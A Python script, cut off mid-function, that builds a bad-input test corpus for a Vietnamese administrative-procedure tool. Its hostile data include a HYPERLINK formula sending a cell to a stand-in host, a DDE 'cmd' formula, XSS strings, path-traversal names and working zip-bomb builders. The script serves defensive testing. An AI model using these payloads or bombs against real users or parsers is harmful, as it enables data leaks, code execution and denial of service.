"""Generate the bad-input corpus of ``tests/badinput``: files and catalogues tthc must refuse.

Offices hand tthc whatever they have: half-copied spreadsheets, files saved
in the wrong format, legacy-font text, names pasted from web pages. This
script writes, reproducibly (fixed seeds, fixed zip timestamps), one input
for each kind of trouble, built from the real data in ``tests/data/real`` and
the example catalogue, each described by a :class:`Case`:

* input files (for ``dossiers``, ``report --dossiers``, ``import decision``,
  ``import portal``, ``diff`` and ``audit``): empty and blank files, binary
  junk, old binary Office and PDF headers, files in the wrong format,
  legacy-encoded text (TCVN3, VNI, Windows-1258, UTF-16), truncated and
  corrupt XLSX and DOCX (a real file cut in half; bytes flipped in the zip
  directory or inside a compressed member), zip bombs (a directory that
  claims gigabytes; a member that lies about its size), formula-injection,
  HTML/script and path-like names, a cell longer than Excel allows,
  impossible dates, cells of the wrong type, a folder where a file is
  expected and a path that does not exist;
* catalogue folders (for every command that loads a catalogue): TOML syntax
  errors, wrong types, unknown keys, an impossible date (2019-02-30),
  impossible lifecycles (a repeal of an unknown code, an amendment before
  the procedure exists, a replacement cycle), a decision file that is not
  UTF-8 or is binary, a folder named like a decision file, ``unit.toml`` as a
  folder, ``decisions`` as a file, a missing ``unit.toml``, a file instead of
  a folder, an empty folder and a missing one; and
  valid catalogues whose names carry formulas, HTML, paths and desk ids
  that look like paths (to check what the writers make of them).

The large inputs (a zip bomb that really expands past the default limit, a
CSV with more rows than the default limit, a sparse file larger than the
default size limit, a 1 MB cell, a 1 MB procedure name) are not part of the
committed corpus: the tests make them in a temporary folder with
:func:`zip_bomb`, :func:`many_rows_csv`, :func:`sparse_file`,
:func:`long_cell_csv` and :func:`long_name_catalog`; so is the catalogue with a
symbolic-link loop (:func:`symlink_loop_catalog`).

Usage::

    python scripts/make_badinput.py --out tests/badinput   # the committed corpus
    python scripts/make_badinput.py --out /tmp/bad --list  # and print the cases

Each case records whether a command must refuse it (``expect="error"``: exit
code 2 with a message naming the file) or may read it (``expect="read"``:
exit 0, 1 or 2, never a crash), and text its message must contain besides
the file name (``where``: the position, such as ``line 4`` or ``row 3``).
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import random
import shutil
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Literal

REPO = Path(__file__).resolve().parents[1]
DATA = REPO / "tests" / "data" / "real"
EXAMPLE = REPO / "catalog"
PORTAL_XLSX = DATA / "portal_exports" / "danh-sach-tthc-BoTuPhap.xlsx"
#: Real rows in .xls, .ods, .doc and PDF (scripts/make_format_twins.py).
TWINS = REPO / "tests" / "data" / "formats"

#: The fixed timestamp of every zip member written here (deterministic bytes).
ZIP_TIME = (2020, 1, 1, 0, 0, 0)

Expect = Literal["error", "read"]
Kind = Literal["file", "catalog"]


@dataclass(frozen=True)
class Case:
    """One bad input.

    Attributes:
        name: a stable identifier (used as the test id).
        kind: ``"file"`` (an input file) or ``"catalog"`` (a catalogue folder).
        path: where it is (relative to the corpus folder).
        what: what is wrong with it, in words.
        expect: ``"error"`` when every command must refuse it with exit code 2;
            ``"read"`` when it is odd but readable (exit 0, 1 or 2, never a crash).
        names: the file the error message must name (for a catalogue, the
            file inside it); by default the input file's name.
        where: text the error message must contain besides the file name (a
            position such as ``line 4``), or ``""``.
        formats: for input files, the kinds of content it carries
            (``listing``, ``log``, ``appendix``, ``portal``), or empty for
            content that is no format at all.
    """

    name: str
    kind: Kind
    path: str
    what: str
    expect: Expect = "error"
    names: str = ""
    where: str = ""
    formats: tuple[str, ...] = field(default=())

    @property
    def named(self) -> str:
        """What the message must name: :attr:`names`, else the file's own name."""
        return self.names or Path(self.path).name


# --------------------------------------------------------------------------- real data


def _rows(name: str) -> list[dict[str, str]]:
    with (DATA / name).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _csv_text(rows: Iterable[Sequence[object]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows(rows)
    return buffer.getvalue()


def _log_lines(count: int) -> list[list[str]]:
    """The header and the first *count* rows of the example's dossier log."""
    with (EXAMPLE / "dossiers-2019.csv").open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        return [row for _, row in zip(range(count + 1), reader, strict=False)]


def _listing_rows() -> list[list[str]]:
    """A posted list: title, header, and real procedures (code, name, time, fee)."""
    out = [["DANH MỤC THỦ TỤC HÀNH CHÍNH CẤP XÃ"], ["STT", "Mã số TTHC", "Tên thủ tục hành chính",
                                                     "Thời hạn giải quyết", "Phí, lệ phí"]]
    for index, row in enumerate(_rows("real_procedures.csv")[:12], 1):
        out.append([str(index), row["code"], row["name"], row["processing_time_text"],
                    row["fee_text"]])
    return out


def _appendix_rows() -> list[list[str]]:
    """The repealed part of QĐ 1766/QĐ-UBND (Bình Thuận, 2020) as an appendix table."""
    rows = [r for r in _rows("decision_appendix_extracts.csv")
            if r["decision_no"] == "1766/QĐ-UBND" and r["change_type"] == "repealed"]
    out = [[rows[0]["appendix_part"]], ["STT", "Mã số TTHC", "Tên TTHC", "Ghi chú"]]
    field_seen = ""
    for row in rows:
        if row["field_group_raw"] != field_seen:
            field_seen = row["field_group_raw"]
            out.append(["", field_seen])
        out.append([row["stt"], row["code"], row["name"], row["note_raw"]])
    return out


def _names(count: int) -> list[str]:
    return [row["name"] for row in _rows("real_procedures.csv")[:count]]


# --------------------------------------------------------------------------- zip helpers


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None,
          compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The zip *data* rewritten with fixed timestamps, members optionally replaced."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", compression) as target:
        for info in source.infolist():
            if info.is_dir():
                continue
            member = zipfile.ZipInfo(info.filename, ZIP_TIME)
            member.compress_type = compression
            member.external_attr = 0o644 << 16
            target.writestr(member, replace.get(info.filename, source.read(info.filename)))
    return out.getvalue()


_CORE_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    b'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    b'xmlns:dcterms="http://purl.org/dc/terms/" '
    b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>tthc</dc:creator>'
    b'<dcterms:created xsi:type="dcterms:W3CDTF">2020-01-01T00:00:00Z</dcterms:created>'
    b'<dcterms:modified xsi:type="dcterms:W3CDTF">2020-01-01T00:00:00Z</dcterms:modified>'
    b"</cp:coreProperties>"
)


def xlsx_bytes(rows: Sequence[Sequence[object]], sheet: str = "Sheet1") -> bytes:
    """A workbook with *rows* on one sheet, with fixed timestamps."""
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.title = sheet
    for row in rows:
        ws.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    # openpyxl stamps the saving time into the core properties: put a fixed one.
    return rezip(buffer.getvalue(), replace={"docProps/core.xml": _CORE_XML})


def docx_bytes(title: str, rows: Sequence[Sequence[str]]) -> bytes:
    """A document with a title paragraph and one table of *rows*, fixed timestamps."""
    from datetime import datetime

    from docx import Document

    document = Document()
    document.add_paragraph(title)
    width = max(len(r) for r in rows)
    table = document.add_table(rows=0, cols=width)
    for row in rows:
        cells = table.add_row().cells
        for index, text in enumerate(row):
            cells[index].text = text
    document.core_properties.created = datetime(2020, 1, 1)
    document.core_properties.modified = datetime(2020, 1, 1)
    buffer = io.BytesIO()
    document.save(buffer)
    return rezip(buffer.getvalue())


def _member_data_offset(data: bytes, name: str) -> tuple[int, int]:
    """(offset, length) of the compressed data of member *name* in zip *data*."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    start = info.header_offset
    name_len, extra_len = struct.unpack("<HH", data[start + 26:start + 30])
    offset = start + 30 + name_len + extra_len
    return offset, info.compress_size


def flip_member(data: bytes, name: str, seed: int) -> bytes:
    """*data* with bytes flipped inside member *name*'s compressed data (directory intact)."""
    offset, length = _member_data_offset(data, name)
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(max(8, length // 50)):
        position = offset + rng.randrange(length // 4, length)
        out[position] ^= 0xFF
    return bytes(out)


def flip_directory(data: bytes, seed: int) -> bytes:
    """*data* with bytes flipped in the zip's central directory."""
    end = data.rfind(b"PK\x05\x06")
    (directory_offset,) = struct.unpack("<I", data[end + 16:end + 20])
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(24):
        position = rng.randrange(directory_offset, end)
        out[position] ^= 0xFF
    return bytes(out)


def lying_directory(data: bytes, *, claimed: int) -> bytes:
    """*data* with every member's uncompressed size in the directory set to *claimed*.

    A zip bomb as the directory shows it: the file stays small, its directory
    says it unpacks to gigabytes (ZIP64 fields when *claimed* needs them).
    """
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as target:
        for info in source.infolist():
            member = zipfile.ZipInfo(info.filename, ZIP_TIME)
            member.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(member, source.read(info.filename))
    raw = bytearray(out.getvalue())
    # Patch the uncompressed size of each central directory record.
    position = raw.find(b"PK\x01\x02")
    while position != -1:
        if claimed < 0xFFFFFFFF:
            raw[position + 24:position + 28] = struct.pack("<I", claimed)
        position = raw.find(b"PK\x01\x02", position + 4)
    if claimed >= 0xFFFFFFFF:
        return _zip64_claim(bytes(raw), claimed)
    return bytes(raw)


def _zip64_claim(data: bytes, claimed: int) -> bytes:
    """Rewrite the archive with every member carrying a ZIP64 size of *claimed* bytes."""
    source = zipfile.ZipFile(io.BytesIO(data))
    local = io.BytesIO()
    central = io.BytesIO()
    count = 0
    for info in source.infolist():
        payload = source.read(info.filename)
        packed = zlib.compressobj(9, zlib.DEFLATED, -15)
        compressed = packed.compress(payload) + packed.flush()
        name = info.filename.encode("utf-8")
        offset = local.tell()
        crc = zlib.crc32(payload)
        extra = struct.pack("<HHQQ", 0x0001, 16, claimed, len(compressed))
        local.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0x0800, 8, 0, 0x2821, crc,
                                0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra)))
        local.write(name + extra + compressed)
        extra_c = struct.pack("<HHQQQ", 0x0001, 24, claimed, len(compressed), offset)
        central.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0x0800, 8, 0,
                                  0x2821, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra_c),
                                  0, 0, 0, 0o644 << 16, 0xFFFFFFFF))
        central.write(name + extra_c)
        count += 1
    body = local.getvalue()
    directory = central.getvalue()
    end64_offset = len(body) + len(directory)
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count,
                        len(directory), len(body))
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end64_offset, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory),
                      len(body), 0)
    return body + directory + end64 + locator + end


def lying_small(data: bytes, member: str, *, expanded: int) -> bytes:
    """A zip whose *member* inflates to *expanded* bytes but whose headers give its first part.

    The headers keep the member's original size and checksum while its
    compressed data inflate to *expanded* bytes (white space added). A reader
    that trusts the headers stops at the stated size, where the checksum
    holds; one that inflates everything gets *expanded* bytes.
    """
    source = zipfile.ZipFile(io.BytesIO(data))
    original = source.read(member)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            item = zipfile.ZipInfo(info.filename, ZIP_TIME)
            item.compress_type = zipfile.ZIP_DEFLATED
            payload = source.read(info.filename)
            if info.filename == member:
                payload += b" " * (expanded - len(payload))
            target.writestr(item, payload)
    raw = bytearray(out.getvalue())
    crc = struct.pack("<I", zlib.crc32(original))
    size = struct.pack("<I", len(original))
    encoded = member.encode("utf-8")
    # (signature, offset of the CRC, of the uncompressed size, of the name length, of the name)
    for signature, crc_at, size_at, length_at, name_at in ((b"PK\x03\x04", 14, 22, 26, 30),
                                                           (b"PK\x01\x02", 16, 24, 28, 46)):
        position = raw.find(signature)
        while position != -1:
            (name_len,) = struct.unpack("<H", raw[position + length_at:position + length_at + 2])
            if bytes(raw[position + name_at:position + name_at + name_len]) == encoded:
                raw[position + crc_at:position + crc_at + 4] = crc
                raw[position + size_at:position + size_at + 4] = size
            position = raw.find(signature, position + 4)
    return bytes(raw)


def zip_bomb(path: Path, *, kind: Literal["xlsx", "docx"] = "xlsx",
             expanded: int = 300 * 2**20) -> Path:
    """Write a small XLSX or DOCX whose main part really inflates to *expanded* bytes.

    The main part (the sheet, or the document body) is the real one with
    white space inserted inside it, so the file is well formed: a reader
    that does not check sizes first would unpack and parse it all. White
    space deflates about a thousandfold: 300 MB make a file of some 300 KB.
    """
    if kind == "xlsx":
        data = PORTAL_XLSX.read_bytes()
        member, marker = "xl/worksheets/sheet1.xml", b"</sheetData>"
    else:
        data = docx_bytes("PHỤ LỤC", _appendix_rows())
        member, marker = "word/document.xml", b"</w:body>"
    source = zipfile.ZipFile(io.BytesIO(data))
    original = source.read(member)
    cut = original.index(marker)
    head, tail = original[:cut], original[cut:]
    chunk = b" " * 2**20
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as target:
        for info in source.infolist():
            item = zipfile.ZipInfo(info.filename, ZIP_TIME)
            item.compress_type = zipfile.ZIP_DEFLATED
            if info.filename != member:
                target.writestr(item, source.read(info.filename))
                continue
            with target.open(item, "w", force_zip64=True) as handle:
                handle.write(head)
                left = expanded - len(head) - len(tail)
                while left > 0:
                    handle.write(chunk[:min(left, len(chunk))])
                    left -= len(chunk)
                handle.write(tail)
    return path


def many_rows_csv(path: Path, rows: int, kind: Literal["log", "listing"] = "log") -> Path:
    """A CSV with a real header and *rows* short data rows (to pass a row limit)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        if kind == "log":  # the two columns a log needs, to keep the file small
            handle.write("Mã TTHC,Ngày nhận\n")
            line = f"{_log_lines(1)[1][1]},2019-01-02 08:00\n"
        else:
            handle.write("STT,Mã số TTHC,Tên thủ tục hành chính\n")
            line = f"1,{_rows('real_procedures.csv')[0]['code']},Đăng ký khai sinh\n"
        block = line * 10_000
        for _ in range(rows // 10_000):
            handle.write(block)
        handle.write(line * (rows % 10_000))
    return path


def sparse_file(path: Path, size: int) -> Path:
    """A file of *size* bytes that takes no room on disk (a hole), beginning with a header."""
    with path.open("wb") as handle:
        handle.write("Mã hồ sơ,Mã TTHC,Ngày nhận\n".encode())
        handle.truncate(size)
    return path


def long_cell_csv(path: Path, chars: int = 2**20, kind: Literal["log", "listing"] = "log") -> Path:
    """A CSV whose second data row has a name (or id) cell of *chars* characters."""
    cell = ("Đăng ký khai sinh " * (chars // 18 + 1))[:chars]
    if kind == "log":
        header, first, second = _log_lines(2)
        second = [cell, *second[1:]]
        text = _csv_text([header, first, second])
    else:
        rows = _listing_rows()[:4]
        rows[3] = [rows[3][0], rows[3][1], cell, *rows[3][3:]]
        text = _csv_text(rows)
    path.write_text(text, encoding="utf-8", newline="")
    return path


# --------------------------------------------------------------------------- input files

_FORMULAS = ('=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1", "-2",
             "@SUM(A1:A9)", "=1+2", "\t=cmd|' /C calc'!A0")
_HTML = ("<script>alert(1)</script>", '<img src=x onerror="alert(2)">',
         "Đăng ký <b>khai sinh</b> &amp; khai tử")
_PATHS = ("../../etc/passwd", "C:\\Windows\\System32\\cmd.exe", "/dev/null", "..\\..\\boot.ini",
          "con", "a/b/../../c")


def _write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def input_files(dest: Path) -> list[Case]:
    """Write the bad input files into *dest*/files; return their cases."""
    from tthc.legacy import encode_legacy

    folder = dest / "files"
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, data: bytes | str, what: str, expect: Expect = "error", where: str = "",
            formats: tuple[str, ...] = ()) -> None:
        _write(folder, name, data)
        cases.append(Case(name=name, kind="file", path=f"files/{name}", what=what,
                          expect=expect, where=where, formats=formats))

    rng = random.Random(20250901)
    junk = bytes(rng.randrange(256) for _ in range(4096))
    add("empty.csv", b"", "an empty file")
    add("blank.csv", " \r\n\t\r\n \r\n", "white space only")
    add("junk.csv", junk, "4 KB of random bytes named .csv")
    add("junk.xlsx", junk, "random bytes named .xlsx")
    add("junk.docx", junk, "random bytes named .docx")
    add("nul.txt", b"\x00" * 1024, "NUL bytes")
    add("ole.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk[:504],
        "an old binary Office (OLE) header: an .xls saved as .xlsx")
    add("pdf.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + junk[:256], "a PDF named .csv")
    add("text.xlsx", _csv_text(_log_lines(3)), "CSV text named .xlsx", expect="read",
        formats=("log",))
    add("header-only.csv", _csv_text(_log_lines(0)), "a dossier-log header and no row",
        expect="read", formats=("log",))
    add("no-header.csv", _csv_text(_log_lines(6)[1:]), "dossier rows without a header row")

    # Legacy encodings and other text encodings of real content.
    listing = _listing_rows()
    tcvn3_rows = [[encode_legacy(c, "tcvn3", errors="lower") if c else c for c in row]
                  for row in listing]
    add("listing-tcvn3.csv", _csv_text(tcvn3_rows).encode("cp1252", errors="replace"),
        "a posted list typed in TCVN3 (.Vn fonts) and saved as Windows-1252 CSV",
        expect="read", formats=("listing",))
    vni_rows = [[encode_legacy(c, "vni", errors="replace") if c else c for c in row]
                for row in listing]
    add("listing-vni.csv", _csv_text(vni_rows).encode("cp1252", errors="replace"),
        "a posted list typed in VNI fonts", expect="read", formats=("listing",))
    cp1258 = encode_legacy(_csv_text(_log_lines(5)), "cp1258", errors="replace")
    add("log-cp1258.csv", cp1258.encode("cp1252", errors="replace"),
        "a dossier log saved as Windows-1258", expect="read", formats=("log",))
    add("log-utf16.csv", _csv_text(_log_lines(5), "\t").encode("utf-16"),
        "a dossier log saved as Excel 'Unicode Text' (UTF-16, tabs)", expect="read",
        formats=("log",))
    add("appendix-utf8-bad.csv",
        _csv_text(_appendix_rows()).encode("utf-8")[:-40] + b"\xff\xfe\xc3(\n",
        "UTF-8 text with invalid bytes at its end", expect="read", formats=("appendix",))

    # Names that try formulas, HTML and paths (odd but readable: the text is kept as text).
    codes = [r["code"] for r in _rows("real_procedures.csv")[:20]]
    hostile = [*_FORMULAS, *_HTML, *_PATHS]
    rows = [listing[0], listing[1]]
    for index, name in enumerate(hostile, 1):
        rows.append([str(index), codes[index], name, "05 ngày làm việc", "Không"])
    add("listing-hostile.csv", _csv_text(rows), "a posted list whose names are formulas, HTML "
        "and paths", expect="read", formats=("listing",))
    log = _log_lines(len(hostile))
    for index, name in enumerate(hostile, 1):
        log[index][0] = name
    add("log-hostile.csv", _csv_text(log), "a dossier log whose ids are formulas, HTML and paths",
        expect="read", formats=("log",))
    appendix = _appendix_rows()
    for index, name in enumerate(hostile):
        row = appendix[3 + index] if 3 + index < len(appendix) else None
        if row and len(row) > 2 and row[1]:
            row[2] = name
    add("appendix-hostile.csv", _csv_text(appendix), "an appendix whose names are formulas, "
        "HTML and paths", expect="read", formats=("appendix",))

    # Impossible dates and wrong types.
    log = _log_lines(6)
    log[2][4] = "2019-02-30 08:00"
    log[3][4] = "31/04/2019 10:00"
    log[4][5] = "hôm qua"
    log[5][4] = "2019-13-01"
    add("log-bad-dates.csv", _csv_text(log), "a dossier log with 2019-02-30, 31/04/2019, "
        "month 13 and a word for a date", expect="read", formats=("log",))
    log = _log_lines(4)
    log[1][4] = "9999-12-31T23:59:00-12:00"  # year 10000 in Vietnam
    log[2][4] = "0001-01-01 00:00"
    log[3][5] = "9999-12-31 23:59"
    log[4][4] = "2019-01-02T08:00:00+99:00"
    add("log-extreme-dates.csv", _csv_text(log), "a dossier log with dates at the ends of the "
        "calendar and impossible time zones", expect="read", formats=("log",))
    header, *body = _log_lines(5)
    typed: list[list[object]] = [header]
    for number, row in enumerate(body):
        cells: list[object] = list(row)
        cells[1] = [1.014863, True, 42, None, 3.5][number]  # codes as numbers, a boolean
        cells[4] = [row[4], 43466, "", True, -1][number]  # an Excel serial, blank, bool
        typed.append(cells)
    add("log-wrong-types.xlsx", xlsx_bytes(typed), "a dossier workbook with numbers and "
        "booleans where codes and dates belong", expect="read", formats=("log",))

    # Damaged XLSX and DOCX, from a real portal export and a real appendix.
    portal = rezip(PORTAL_XLSX.read_bytes())
    add("portal.xlsx", portal, "the national portal's export for Bộ Tư pháp (well formed)",
        expect="read", formats=("portal",))
    add("portal-truncated.xlsx", portal[: len(portal) // 2], "a real XLSX cut in half")
    add("portal-directory-flipped.xlsx", flip_directory(portal, 7),
        "a real XLSX with bytes flipped in its zip directory")
    add("portal-member-flipped.xlsx", flip_member(portal, "xl/sharedStrings.xml", 11),
        "a real XLSX with bytes flipped inside its shared strings (directory intact)")
    add("portal-no-workbook.xlsx", rezip(portal, replace={"xl/workbook.xml": b"<oops"}),
        "an XLSX whose workbook part is not XML")
    add("portal-claims-8gb.xlsx", lying_directory(portal, claimed=8 * 2**30),
        "a zip bomb's directory: the members claim 8 GiB each (ZIP64), the file is small")
    add("portal-lies-small.xlsx",
        lying_small(portal, "xl/worksheets/sheet1.xml", expanded=4 * 2**20),
        "a sheet whose headers give its real size but whose data inflate to 4 MiB",
        expect="read", formats=("portal",))
    appendix_docx = docx_bytes("PHỤ LỤC", _appendix_rows())
    add("appendix.docx", appendix_docx, "a real appendix table as DOCX (well formed)",
        expect="read", formats=("appendix",))
    add("appendix-truncated.docx", appendix_docx[: len(appendix_docx) // 2],
        "a DOCX cut in half")
    add("appendix-member-flipped.docx", flip_member(appendix_docx, "word/document.xml", 13),
        "a DOCX with bytes flipped inside its document part")
    add("appendix-not-xml.docx", rezip(appendix_docx, replace={"word/document.xml": b"\x00junk"}),
        "a DOCX whose document part is not XML")
    add("odt-like.xlsx", _plain_zip({"mimetype": b"application/vnd.oasis.opendocument.text",
                                     "content.xml": b"<x/>"}),
        "an OpenDocument-like zip: neither XLSX nor DOCX")
    add("docx-as.csv", appendix_docx, "a DOCX saved under a .csv name", expect="read",
        formats=("appendix",))

    # Damaged old and published formats, from the format twins of real rows
    # (tests/data/formats, made by scripts/make_format_twins.py).
    xls = (TWINS / "huyen.xls").read_bytes()
    add("huyen-truncated.xls", xls[: len(xls) // 2], "a real XLS (Excel 97-2003) cut in half")
    ods = (TWINS / "huyen.ods").read_bytes()
    add("huyen-truncated.ods", ods[: len(ods) // 2], "a real ODS cut in half")
    add("huyen-member-flipped.ods", flip_member(ods, "content.xml", 17),
        "a real ODS with bytes flipped inside its content part (directory intact)")
    pdf = (TWINS / "xa-cuc-lam.pdf").read_bytes()
    add("listing-truncated.pdf", pdf[: len(pdf) // 2], "a real text-layer PDF cut in half")
    add("scanned.pdf", (TWINS / "scanned.pdf").read_bytes(),
        "a scanned PDF: a page that is a picture, with no text layer")
    add("ole-only.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "an old binary Office (OLE) header and nothing else, named .doc")

    # A folder where a file is expected.
    (folder / "a-folder.csv").mkdir(exist_ok=True)
    (folder / "a-folder.csv" / "README").write_text("a folder, not a file\n", encoding="utf-8")
    cases.append(Case(name="a-folder.csv", kind="file", path="files/a-folder.csv",
                      what="a folder named like a CSV file"))
    cases.append(Case(name="missing.csv", kind="file", path="files/missing.csv",
                      what="a path that does not exist"))
    return cases


def _plain_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_TIME), data)
    return out.getvalue()


# --------------------------------------------------------------------------- catalogues

_ISSUER = "Chủ tịch UBND tỉnh Thí Điểm"


def _toml_string(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    escaped = "".join(f"\\u{ord(c):04x}" if ord(c) < 0x20 or ord(c) == 0x7F else c
                      for c in escaped)
    return f'"{escaped}"'


def _decision(number: str, day: str, entries: Sequence[str], *, extra: str = "") -> str:
    head = (f'number = "{number}"\nissuer = "{_ISSUER}"\nsigned = {day}\neffective = {day}\n'
            f'title = "Về việc công bố danh mục thủ tục hành chính"\n{extra}')
    return head + "".join(f"\n{entry}" for entry in entries)


def _new(code: str, name: str, field_name: str, level: str = "district",
         time: str = "05 ngày làm việc", fees: str = "Không") -> str:
    return (f'[[entries]]\nkind = "new"\ncode = "{code}"\nlevels = ["{level}"]\n\n'
            f"[entries.content]\nname = {_toml_string(name)}\nfield = {_toml_string(field_name)}\n"
            f'processing_time = {_toml_string(time)}\nfees = {_toml_string(fees)}\n')


def _entry(kind: str, code: str, level: str = "district", body: str = "") -> str:
    return f'[[entries]]\nkind = "{kind}"\ncode = "{code}"\nlevels = ["{level}"]\n{body}'


def _base_entries() -> list[tuple[str, str, str]]:
    rows = _rows("real_procedures.csv")
    return [(r["code"], r["name"], r["field"] or "Hộ tịch") for r in rows[:3]]


def _base_catalog(folder: Path) -> list[tuple[str, str, str]]:
    """A small valid catalogue: the example's unit and one decision of three real procedures."""
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(EXAMPLE / "unit.toml", folder / "unit.toml")
    entries = _base_entries()
    text = _decision("10/QĐ-UBND", "2016-03-10", [_new(*e) for e in entries])
    _write(folder, "decisions/2016/2016-03-10_10-qd-ubnd.toml", text)
    return entries


def catalogs(dest: Path) -> list[Case]:
    """Write the bad catalogue folders into *dest*/catalogs; return their cases."""
    root = dest / "catalogs"
    root.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, what: str, files: dict[str, bytes | str] | None = None, *,
            expect: Expect = "error", names: str = "", where: str = "",
            base: bool = True) -> Path:
        folder = root / name
        if folder.exists():
            shutil.rmtree(folder)
        if base:
            _base_catalog(folder)
        else:
            folder.mkdir(parents=True)
        for relative, data in (files or {}).items():
            _write(folder, relative, data)
        cases.append(Case(name=name, kind="catalog", path=f"catalogs/{name}", what=what,
                          expect=expect, names=names, where=where))
        return folder

    entries = _base_entries()
    (code_a, name_a, field_a), (code_b, _, _), (code_c, _, _) = entries
    later = "decisions/2017/2017-05-02_20-qd-ubnd.toml"
    latest = "decisions/2018/2018-05-02_30-qd-ubnd.toml"
    unknown = "1.999999"

    add("valid", "a small valid catalogue (the base of the others)", expect="read")
    add("toml-syntax", "a decision with a TOML syntax error on line 4",
        {later: 'number = "20/QĐ-UBND"\nissuer = "x"\nsigned = 2017-05-02\neffective = = 1\n'},
        names=later, where="line 4")
    add("toml-unclosed", "a decision whose string is never closed (line 2)",
        {later: 'number = "20/QĐ-UBND"\ntitle = "Về việc\n'}, names=later, where="line 2")
    add("impossible-date", "a decision signed on 2019-02-30",
        {later: _decision("20/QĐ-UBND", "2019-02-30", [_entry("repealed", code_b)])},
        names=later, where="line 3")
    add("wrong-types", "a decision whose number is a number, signing date a text and levels "
        "a text", {later: _decision("20", "2017-05-02", [_entry("repealed", code_b)])
                   .replace('number = "20"', "number = 20")
                   .replace("signed = 2017-05-02", 'signed = "hôm qua"')
                   .replace('levels = ["district"]', 'levels = "district"')},
        names=later, where="$.number")
    add("unknown-key", "a decision with a misspelt key (nam = ...)",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_new("1.000001", "Thủ tục A", field_a)])
         .replace("name = ", "nam = ")}, names=later, where="$.entries[0].content.nam")
    add("unknown-kind", "an entry of kind 'abolished' (not a kind)",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_entry("abolished", code_b)])},
        names=later, where="$.entries[0].kind")
    add("bad-code", "an entry whose code is not a procedure code",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_entry("repealed", "1.0042")])},
        names=later, where="$.entries[0].code")
    add("repeal-unknown", "a repeal of a code never announced",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_entry("repealed", unknown)])},
        names=later, where="$.entries[0]")
    first = "decisions/2015/2015-01-05_1-qd-ubnd.toml"
    add("amend-before-new", "an amendment effective before the procedure was announced",
        {first: _decision("1/QĐ-UBND", "2015-01-05", [
            _entry("amended", code_a, body='\n[entries.content]\nfees = "Miễn phí"\n')])},
        names=first, where="$.entries[0]")
    add("replacement-cycle", "A replaced by B, then B replaced by A",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_entry(
            "replaced", code_a, body=f'successor = "{unknown}"\n\n[entries.content]\n'
            f"name = {_toml_string(name_a + ' (mới)')}\nfield = {_toml_string(field_a)}\n")]),
         latest: _decision("30/QĐ-UBND", "2018-05-02", [_entry(
             "replaced", unknown, body=f'successor = "{code_a}"\n\n[entries.content]\n'
             f"name = {_toml_string(name_a)}\nfield = {_toml_string(field_a)}\n")])},
        names=latest, where="$.entries[0]")
    copy = "decisions/2016/copy.toml"
    add("duplicate-decision", "the same decision in two files",
        {copy: (root / "valid" / "decisions/2016/2016-03-10_10-qd-ubnd.toml")
         .read_text(encoding="utf-8")}, names=copy, where="$")
    add("repeal-twice", "a procedure repealed twice",
        {later: _decision("20/QĐ-UBND", "2017-05-02", [_entry("repealed", code_c)]),
         latest: _decision("30/QĐ-UBND", "2018-05-02", [_entry("repealed", code_c)])},
        names=latest, where="$.entries[0]")
